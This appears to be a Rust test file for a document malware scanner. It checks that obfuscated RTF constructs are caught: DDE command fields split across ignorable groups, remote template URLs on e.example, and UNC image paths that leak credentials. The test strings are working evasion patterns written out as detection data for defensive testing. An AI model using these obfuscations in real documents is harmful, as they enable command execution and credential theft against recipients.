//! Texts and pages that some readers take one way and others another way: whatever any of them would see is found.

use std::io::Cursor;

use crate::sample::DocumentBuilder;
use crate::{FindingKind, Kind, Limits, Report, Verdict, inspect};

fn report(name: &str, content_type: &str, content: &str) -> Report {
    let part = format!("word/{name}");
    let document = DocumentBuilder::new(Kind::Docx).part(&part, content).override_type(&part, content_type);
    let bytes = document.relationship("word/document.xml", "aFChunk", name, false).build();
    inspect(Cursor::new(bytes), &Limits::default()).unwrap()
}

/// Runs a table of contents and what changes the verdict.
fn expect(name: &str, content_type: &str, table: &[(String, Option<FindingKind>)]) {
    for (content, expected) in table {
        let report = report(name, content_type, content);
        let verdict = match expected {
            None => Verdict::Clean,
            Some(kind) if kind.is_blocking() => Verdict::Infected,
            Some(_) => Verdict::Unscannable,
        };
        assert_eq!(report.verdict(), verdict, "{content}: {report:?}");
        let found = report.findings.iter().any(|finding| Some(finding.kind) == *expected);
        assert!(found || expected.is_none(), "{content}: {report:?}");
    }
}

fn rtf(table: &[(&str, Option<FindingKind>)]) {
    let whole = |(text, expected): &(&str, Option<FindingKind>)| (format!(r"{{\rtf1\ansi {text}\par}}"), *expected);
    expect("a.rtf", "application/rtf", &table.iter().map(whole).collect::<Vec<_>>());
}

#[test]
fn groups_that_some_readers_pass_over_hide_no_field() {
    use FindingKind::{Dde, Unreadable};
    rtf(&[
        (r"{\field{\*\fldinst DDE cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst D{\*\x OC}DE cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst D{\*\x {\*\y {OC}}}DE cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst D{\b{\*\x OC}}{\b0 DE} cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst D{OC\*\x }DE cmd}{\fldrslt x}}", None),
        (r"{\field{\*\fldinst D{DE\*\x OC} cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst D{\footnote OC}DE cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst D{\comment OC}DE cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst D{\pict 00}DE cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst D{\object OC}DE cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst D\deleted OC\deleted0 DE cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst D\htmlrtf OC\htmlrtf0 DE cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst D\deleted OC\plain DE cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst D{\deleted DE} cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst {\upr{OC}{\*\ud{DDE cmd}}}}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst {\upr{DDE cmd}{\*\ud{OC}}}}{\fldrslt x}}", Some(Dde)),
        (r"{\field\*\x{\*\fldinst DDE cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\*\x{\field{\*\fldinst DDE cmd}{\fldrslt x}}}", Some(Dde)),
        (r"{\field{\*\fldinst D}{\*\x{\*\fldinst OC}}{\*\fldinst DE cmd}}", Some(Unreadable)),
        (r"{\field{\*\fldinst D}{\*\fldinst DE cmd}}", Some(Unreadable)),
        (r"{\field{\*\fldinst { HYPER}{LINK https://e.example}{\*\datafield 00}}{\fldrslt {\*\bkmkstart a}x}}", None),
        (r"{\field{\*\fldinst { PAGE }}{\fldrslt {\field{\*\fldinst {\*\bkmkstart b}PAGE}{\fldrslt 1}}}}", None),
    ]);
    let many: String = (0..20).map(|number| format!(r"{{\*\x {number}}}")).collect();
    rtf(&[
        (&format!(r"{{\field{{\*\fldinst {many}}}}}"), Some(Unreadable)),
        (&format!(r"{{\field{{\*\fldinst PAGE {many}}}}}{many}"), None),
    ]);
}

#[test]
fn groups_that_some_readers_pass_over_hide_no_name() {
    use FindingKind::{CredentialLeak, RemoteTemplate, Unreadable};
    rtf(&[
        (r"{\*\template http://e.example/a.dotm}", Some(RemoteTemplate)),
        (r"{\*\template {\*\x C:\\}http://e.example/a.dotm}", Some(RemoteTemplate)),
        (r"{\*\template {\info C:\\}http://e.example/a.dotm}", Some(RemoteTemplate)),
        (r"{\*\template http{\sn x}://e.example/a.dotm}", Some(RemoteTemplate)),
        (r"{\*\template http://e.example/\*\x C:\\}", Some(RemoteTemplate)),
        (r"{\*\x C:\\\template http://e.example/}", Some(RemoteTemplate)),
        (r"{\*\template C:\\a{\*\x b}.dotx}", None),
        (r"{\sp{\sn pibName}{\sv \\\\e.example\\a.png}}", Some(CredentialLeak)),
        (r"{\sp{\sn p{\*\x x}ibName}{\sv \\\\e.example\\a.png}}", Some(CredentialLeak)),
        (r"{\sp{\sn pibName}{\sv {\*\x C:\\}\\\\e.example\\a.png}}", Some(CredentialLeak)),
        (r"{\sp{\sn pibName}{\*\x{\sn x}}{\sv \\\\e.example\\a.png}}", Some(CredentialLeak)),
        (r"{\sp{\sn pib}{\sv {\pict\pngblip 89504e47}}}", None),
        (r"{\object\objemb{\*\objdata 01{\*\x 00}050000}}", Some(Unreadable)),
        (r"{\object\objemb{\*\objdata 01\*\x 050000}}", Some(Unreadable)),
    ]);
}
